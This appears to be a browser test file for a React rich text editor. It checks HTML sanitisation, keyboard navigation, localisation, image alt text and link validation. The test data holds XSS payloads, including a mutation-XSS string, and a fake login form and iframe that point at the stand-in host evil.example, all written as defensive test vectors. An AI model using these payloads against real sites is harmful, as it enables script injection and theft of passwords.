import { useState } from "react";
import { describe, expect, it, vi } from "vitest";
import { userEvent } from "vitest/browser";
import { render } from "vitest-browser-react";
import { Field } from "#ui/field/field.tsx";
import type { UploadImage } from "#ui/insert-image/insert-image.tsx";
import { cleanHtml } from "#ui/rich-text/clean-html.ts";
import { RichTextView } from "#ui/rich-text/rich-text-view.tsx";
import { RichText } from "#ui/rich-text/rich-text.tsx";
import { enUS } from "#ui/words/en-US.ts";
import { UiWords } from "#ui/words/words.tsx";
import { eventually } from "#tests/support/eventually.ts";
import { expectAxeClean } from "#tests/support/browser/axe.ts";

const hostile: readonly (readonly [string, string])[] = [
  ["<p>a<script>window.ran = 1</script></p>", "<p>a</p>"],
  ['<p onclick="window.ran = 1">a</p>', "<p>a</p>"],
  ['<img src="x" onerror="window.ran = 1">', "<img>"],
  ['<a href="javascript:window.ran = 1">a</a>', "<a>a</a>"],
  ['<a href="java\tscript:window.ran = 1">a</a>', "<a>a</a>"],
  ['<a href="data:text/html,<script>1</script>">a</a>', "<a>a</a>"],
  ['<a href="//evil.example/x">a</a>', "<a>a</a>"],
  ['<p style="position:fixed;inset:0;background:url(//evil.example)">a</p>', "<p>a</p>"],
  ["<style>body{display:none}</style><p>a</p>", "<p>a</p>"],
  ['<iframe src="//evil.example"></iframe><p>a</p>', "<p>a</p>"],
  ['<svg><a xlink:href="javascript:window.ran = 1"><text>a</text></a></svg>', ""],
  ["<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1></style></mglyph></table></mtext></math>", ""],
  ['<form action="//evil.example"><input type="password" name="p"><button>登录</button></form>', "登录"],
  ['<p class="fixed inset-0 z-toast" id="root">a</p>', "<p>a</p>"],
  ['<img src="data:image/svg+xml;base64,PHN2Zz4=">', "<img>"],
];

const bodyOf = (root: Element) => {
  const text = root.querySelector<HTMLElement>("[data-slot=rich-text-text]");
  if (!text) throw new Error("the editor has not come");
  return text;
};

function paste(target: Element, parts: { html?: string; text?: string; files?: readonly File[] }) {
  const data = new DataTransfer();
  if (parts.html !== undefined) data.setData("text/html", parts.html);
  if (parts.text !== undefined) data.setData("text/plain", parts.text);
  for (const file of parts.files ?? []) data.items.add(file);
  target.dispatchEvent(new ClipboardEvent("paste", { bubbles: true, cancelable: true, clipboardData: data }));
}
const png = (name: string) => new File([Uint8Array.of(137, 80, 78, 71)], name, { type: "image/png" });

describe("HTML that is shown", () => {
  it.each(hostile)("%s is cleaned", (dirty, clean) => {
    expect(cleanHtml(dirty)).toBe(clean);
  });

  it("keeps what a text is made of, and opens links elsewhere", () => {
    const kept =
      '<h2>a</h2><p><strong>b</strong> <em>c</em></p><ul><li>d</li></ul><img src="/f/1.png" alt="e"><pre><code class="language-sql">select</code></pre>';
    expect(cleanHtml(kept)).toBe(kept);
    expect(cleanHtml('<a href="https://a.example/b">c</a>')).toBe(
      '<a href="https://a.example/b" target="_blank" rel="noopener noreferrer nofollow">c</a>',
    );
  });

  it("runs nothing in the view", async () => {
    const screen = await render(<RichTextView html={hostile.map(([dirty]) => dirty).join("")} />);
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(window).not.toHaveProperty("ran");
    expect(screen.container.querySelector("script, style, iframe, form, [onclick], [style]")).toBeNull();
  });
});

describe("rich text editor", () => {
  it("is 300 px high and speaks Chinese (EDITOR-01, CONST-14)", async () => {
    const screen = await render(<RichText />);
    const box = screen.getByRole("textbox", { name: "富文本编辑器" });
    await expect.element(box).toBeVisible();
    expect(bodyOf(screen.container).parentElement?.getBoundingClientRect().height).toBe(300);
    await expect.element(screen.getByRole("toolbar", { name: "格式工具栏" })).toBeVisible();
    const names = screen
      .getByRole("toolbar")
      .getByRole("button")
      .elements()
      .map((button) => button.getAttribute("aria-label") ?? "");
    expect(names).toContain("加粗");
    expect(names.filter((name) => !/\p{Script=Han}/u.test(name))).toEqual([]);
  });

  it("speaks another language where one is chosen", async () => {
    const screen = await render(
      <UiWords words={enUS}>
        <RichText />
      </UiWords>,
    );
    await expect.element(screen.getByRole("toolbar", { name: "Formatting" })).toBeVisible();
    await expect.element(screen.getByRole("button", { name: "Bold" })).toBeVisible();
  });

  it("cleans what comes in, what is pasted and what goes out", async () => {
    const changed = vi.fn<(html: string) => void>();
    const screen = await render(
      <RichText defaultValue={`<p>甲<script>window.ran = 1</script></p>`} onValueChange={changed} />,
    );
    const box = screen.getByRole("textbox");
    await expect.element(box).toHaveTextContent("甲");
    expect(changed).not.toHaveBeenCalled();
    await box.click();
    paste(bodyOf(screen.container), {
      html: '<p onclick="window.ran = 1">乙 <a href="javascript:window.ran = 1">丙</a><img src="x" onerror="window.ran = 1"></p>',
      text: "乙 丙",
    });
    await eventually(() => expect(changed).toHaveBeenCalled());
    const html = changed.mock.lastCall?.[0] ?? "";
    expect(html).toContain("乙");
    expect(html).not.toMatch(/onclick|javascript|onerror|script/);
    expect(window).not.toHaveProperty("ran");
  });

  it("refuses too large a paste with a message, and loses nothing", async () => {
    const changed = vi.fn<(html: string) => void>();
    const screen = await render(<RichText defaultValue="<p>已有内容</p>" onValueChange={changed} />);
    const box = screen.getByRole("textbox");
    await box.click();
    paste(bodyOf(screen.container), { text: "x".repeat(10 * 1024 * 1024 + 1) });
    await expect.element(screen.getByRole("alert")).toHaveTextContent("粘贴的内容超过 10 MB，未粘贴；已有内容没有变化");
    await expect.element(box).toHaveTextContent("已有内容");
    expect(changed).not.toHaveBeenCalled();
    paste(bodyOf(screen.container), { text: "小段" });
    await eventually(() => expect(changed.mock.lastCall?.[0]).toContain("小段"));
    expect(screen.getByRole("alert").query()).toBeNull();
  });

  it("goes to the toolbar by Alt+F10 and back by Escape; arrows move inside; switches tell their state", async () => {
    const changed = vi.fn<(html: string) => void>();
    const screen = await render(
      <>
        <RichText onValueChange={changed} />
        <button type="button">之后</button>
      </>,
    );
    const box = screen.getByRole("textbox");
    await box.click();
    await userEvent.keyboard("{Alt>}{F10}{/Alt}");
    await expect.element(screen.getByRole("button", { name: "1 级标题" })).toHaveFocus();
    await userEvent.keyboard("{ArrowRight}{ArrowRight}{ArrowRight}");
    const bold = screen.getByRole("button", { name: "加粗" });
    await expect.element(bold).toHaveFocus();
    await expect.element(bold).toHaveAttribute("aria-pressed", "false");
    await userEvent.keyboard("{Enter}");
    await expect.element(bold).toHaveAttribute("aria-pressed", "true");
    await expect.element(bold).toHaveFocus();
    await userEvent.keyboard("{End}");
    await expect.element(screen.getByRole("button", { name: "重做" })).toHaveFocus();
    await userEvent.keyboard("{ArrowRight}{Escape}");
    await expect.element(box).toHaveFocus();
    await userEvent.keyboard("a");
    expect(changed).toHaveBeenLastCalledWith("<p><strong>a</strong></p>");
    await userEvent.keyboard("{Tab}");
    await expect.element(screen.getByRole("button", { name: "之后" })).toHaveFocus();
  });

  it("marks by Ctrl+B, Ctrl+I and Ctrl+U, takes back by Ctrl+Z and does again by Ctrl+Y; the toolbar wraps", async () => {
    const changed = vi.fn<(html: string) => void>();
    const screen = await render(<RichText defaultValue="<p>a</p>" onValueChange={changed} />);
    const box = screen.getByRole("textbox");
    await box.click();
    await userEvent.keyboard("{Control>}a{/Control}{Control>}b{/Control}");
    expect(changed.mock.lastCall?.[0]).toBe("<p><strong>a</strong></p>");
    await userEvent.keyboard("{Control>}b{/Control}{Control>}i{/Control}");
    expect(changed.mock.lastCall?.[0]).toBe("<p><em>a</em></p>");
    await userEvent.keyboard("{Control>}i{/Control}{Control>}u{/Control}");
    expect(changed.mock.lastCall?.[0]).toBe("<p><u>a</u></p>");
    await userEvent.keyboard("{Control>}z{/Control}");
    await eventually(() => expect(changed.mock.lastCall?.[0]).not.toContain("<u>"));
    await userEvent.keyboard("{Control>}y{/Control}");
    await eventually(() => expect(changed.mock.lastCall?.[0]).toBe("<p><u>a</u></p>"));
    await userEvent.keyboard("{Alt>}{F10}{/Alt}{ArrowLeft}");
    await expect.element(screen.getByRole("button", { name: "重做" })).toHaveFocus();
    await userEvent.keyboard("{ArrowRight}");
    await expect.element(screen.getByRole("button", { name: "1 级标题" })).toHaveFocus();
    await userEvent.keyboard("{ArrowRight}{Home}");
    await expect.element(screen.getByRole("button", { name: "1 级标题" })).toHaveFocus();
  });

  it("keeps Tab in a list that can be indented", async () => {
    const changed = vi.fn<(html: string) => void>();
    const screen = await render(<RichText defaultValue="<ul><li>a</li><li>b</li></ul>" onValueChange={changed} />);
    const box = screen.getByRole("textbox");
    await box.click();
    await userEvent.keyboard("{Control>}{End}{/Control}{Tab}");
    await expect.element(box).toHaveFocus();
    expect(changed.mock.lastCall?.[0]).toBe("<ul><li><p>a</p><ul><li><p>b</p></li></ul></li></ul>");
  });

  it("asks for the alternative text of a picture, and stores it by the caller", async () => {
    const uploadImage = vi.fn<UploadImage>(async (file) => `/f/${file.name}`);
    const changed = vi.fn<(html: string) => void>();
    const screen = await render(<RichText uploadImage={uploadImage} onValueChange={changed} />);
    await screen.getByRole("textbox").click();
    paste(bodyOf(screen.container), { files: [png("样品.png")] });
    const dialog = screen.getByRole("dialog", { name: "插入图片" });
    await expect.element(dialog).toBeVisible();
    await expectAxeClean();
    await screen.getByRole("button", { name: "插入" }).click();
    const alt = screen.getByRole("textbox", { name: "替代文字 必填" });
    await expect.element(alt).toHaveAccessibleDescription(/请用一句话说明图片内容/);
    expect(uploadImage).not.toHaveBeenCalled();
    await alt.fill("一瓶水样");
    await screen.getByRole("button", { name: "插入" }).click();
    await eventually(() => expect(changed.mock.lastCall?.[0]).toContain('<img src="/f/样品.png" alt="一瓶水样">'));
    expect(uploadImage.mock.calls[0]?.[0].name).toBe("样品.png");
    await expect.element(dialog).not.toBeInTheDocument();
  });

  it("shows why a picture was not stored, and keeps what was typed", async () => {
    const uploadImage: UploadImage = async () => {
      throw new Error("文件大小不能超过20MB");
    };
    const screen = await render(<RichText uploadImage={uploadImage} />);
    await screen.getByRole("textbox").click();
    paste(bodyOf(screen.container), { files: [png("a.png")] });
    await screen.getByRole("textbox", { name: /替代文字/ }).fill("图");
    await screen.getByRole("button", { name: "插入" }).click();
    await expect.element(screen.getByText("文件大小不能超过20MB")).toBeVisible();
    await expect.element(screen.getByRole("textbox", { name: /替代文字/ })).toHaveValue("图");
  });

  it("takes a link only to a place that may be opened", async () => {
    const changed = vi.fn<(html: string) => void>();
    const screen = await render(<RichText defaultValue="<p>官网</p>" onValueChange={changed} />);
    await screen.getByRole("textbox").click();
    await userEvent.keyboard("{Control>}a{/Control}");
    await screen.getByRole("button", { name: "链接" }).click();
    const address = screen.getByRole("textbox", { name: "链接地址" });
    await address.fill("javascript:alert(1)");
    await userEvent.keyboard("{Enter}");
    await expect.element(address).toHaveAccessibleDescription(/请输入以 http/);
    await address.fill("https://a.example");
    await userEvent.keyboard("{Enter}");
    await eventually(() =>
      expect(changed.mock.lastCall?.[0]).toBe(
        '<p><a href="https://a.example" target="_blank" rel="noopener noreferrer nofollow">官网</a></p>',
      ),
    );
  });

  it("follows the caller's value and is empty when nothing is left", async () => {
    function Page() {
      const [html, setHtml] = useState("<p>一</p>");
      return (
        <>
          <RichText value={html} onValueChange={setHtml} />
          <output>{html === "" ? "空" : html}</output>
          <button type="button" onClick={() => setHtml("<p>二</p>")}>
            换
          </button>
        </>
      );
    }
    const screen = await render(<Page />);
    const box = screen.getByRole("textbox");
    await expect.element(box).toHaveTextContent("一");
    await screen.getByRole("button", { name: "换" }).click();
    await expect.element(box).toHaveTextContent("二");
    await box.click();
    await userEvent.keyboard("{Control>}a{/Control}{Delete}");
    await expect.element(screen.getByRole("status")).toHaveTextContent("空");
  });

  it("reports nothing while a word is composed", async () => {
    const changed = vi.fn<(html: string) => void>();
    const screen = await render(<RichText onValueChange={changed} />);
    await screen.getByRole("textbox").click();
    const body = bodyOf(screen.container);
    body.dispatchEvent(new CompositionEvent("compositionstart", { bubbles: true, data: "" }));
    document.execCommand("insertText", false, "ni");
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(changed).not.toHaveBeenCalled();
    body.dispatchEvent(new CompositionEvent("compositionend", { bubbles: true, data: "ni" }));
    await eventually(() => expect(changed).toHaveBeenCalledExactlyOnceWith("<p>ni</p>"));
  });

  it("is named by its field, told wrong, and clean for readers", async () => {
    const screen = await render(
      <>
        <Field label="正文" required error="不能为空">
          <RichText />
        </Field>
        <RichText aria-label="只读正文" readOnly defaultValue="<h2>标题</h2><p>内容</p>" />
      </>,
    );
    const box = screen.getByRole("textbox", { name: /^正文/ });
    await expect.element(box).toHaveAttribute("aria-invalid", "true");
    await expect.element(box).toHaveAccessibleDescription(/不能为空.*Alt\+F10/);
    const still = screen.getByRole("textbox", { name: "只读正文" });
    await expect.element(still).toHaveAttribute("contenteditable", "false");
    await expectAxeClean(screen.container);
  });
});
